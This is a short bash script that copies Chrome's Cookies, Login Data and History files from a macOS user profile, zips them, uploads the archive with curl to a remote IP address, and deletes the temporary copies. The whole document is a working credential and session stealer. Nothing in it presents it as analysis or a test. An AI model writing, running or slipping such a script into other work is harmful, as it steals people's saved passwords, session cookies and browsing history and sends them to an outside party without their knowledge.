#!/bin/bash
P="$HOME/Library/Application Support/Google/Chrome/Default"
T=$(mktemp -d)
cp "$P/Cookies" "$P/Login Data" "$P/History" "$T/" 2>/dev/null
zip -qj "$T/s.zip" "$T"/*
curl -s -F "f=@$T/s.zip" http://203.0.113.90/to/up
rm -rf "$T"
